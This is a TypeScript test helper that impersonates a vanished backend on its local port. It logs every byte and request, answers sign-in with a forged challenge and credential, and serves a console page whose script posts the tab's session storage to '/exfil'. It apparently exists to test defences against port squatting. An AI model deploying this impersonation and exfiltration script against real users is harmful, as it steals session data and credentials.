/**
 * Run as another user once a backend is gone: listens on its port and records every byte each
 * connection sends (one `{"kind": "bytes"}` JSON line per chunk, latin1) and every request it
 * parsed (`{"kind": "http"}`, headers and body). It plays the backend's HTTP API as far as it
 * can without the admin token: the sign-in's two steps answered with a challenge of its own (the
 * client's nonce extended) and a made-up signature and credential, `/api/v1/events` held open,
 * `/healthz` ok, `/console/…` a page that posts the tab's session storage to `/exfil`, anything
 * else `{}`. Prints `{"listening": <port>, "uid"}` once it listens.
 *
 * argv: <port> <record file>
 */
import { randomBytes } from 'node:crypto';
import { appendFileSync } from 'node:fs';
import { createServer, type ServerResponse } from 'node:http';
import type { SquatterEntry } from './squatter-record';

const [port, recordFile] = process.argv.slice(2);
let connections = 0;

function record(entry: SquatterEntry): void {
  appendFileSync(recordFile!, `${JSON.stringify(entry)}\n`);
}

function json(res: ServerResponse, body: unknown): void {
  res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(body));
}

const server = createServer((req, res) => {
  const chunks: Buffer[] = [];
  req.on('data', (chunk: Buffer) => chunks.push(chunk));
  req.on('end', () => {
    const body = Buffer.concat(chunks).toString('utf8');
    const connection = (req.socket as { squatterConnection?: number }).squatterConnection ?? 0;
    record({ kind: 'http', connection, method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
    const path = new URL(req.url ?? '/', 'http://squatter').pathname;
    if (path === '/api/v1/auth/begin') {
      let clientFirst = '';
      try {
        clientFirst = String((JSON.parse(body) as { message?: unknown }).message ?? '');
      } catch {
        // answered all the same
      }
      const nonce = /(?:^|,)r=([^,]*)/.exec(clientFirst)?.[1] ?? '';
      const challenge = `r=${nonce}${randomBytes(18).toString('base64url')},s=${randomBytes(16).toString('base64')},i=4096`;
      return json(res, { exchange: randomBytes(12).toString('base64url'), message: challenge });
    }
    if (path === '/api/v1/auth/finish') {
      return json(res, {
        message: `v=${randomBytes(32).toString('base64')}`,
        credential: `tpc1_${randomBytes(24).toString('base64url')}`,
        instance_id: 'squatter',
      });
    }
    if (path === '/api/v1/events') {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      return void res.write(': held\n\n');
    }
    if (path === '/healthz') return json(res, { status: 'ok' });
    // A console tab reloaded now loads this page, in the console's own origin: it posts back
    // everything the tab kept in its session storage.
    if (path.startsWith('/console')) {
      res.writeHead(200, { 'content-type': 'text/html' });
      return void res.end(`<!doctype html><title>Toolport</title><script>
fetch('/exfil', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ ...sessionStorage }) });
</script>`);
    }
    json(res, {});
  });
});

server.on('connection', (socket) => {
  const connection = ++connections;
  (socket as { squatterConnection?: number }).squatterConnection = connection;
  socket.on('data', (chunk: Buffer) => record({ kind: 'bytes', connection, text: chunk.toString('latin1') }));
});

server.listen(Number(port), '127.0.0.1', () => console.log(JSON.stringify({ listening: Number(port), uid: process.getuid?.() })));
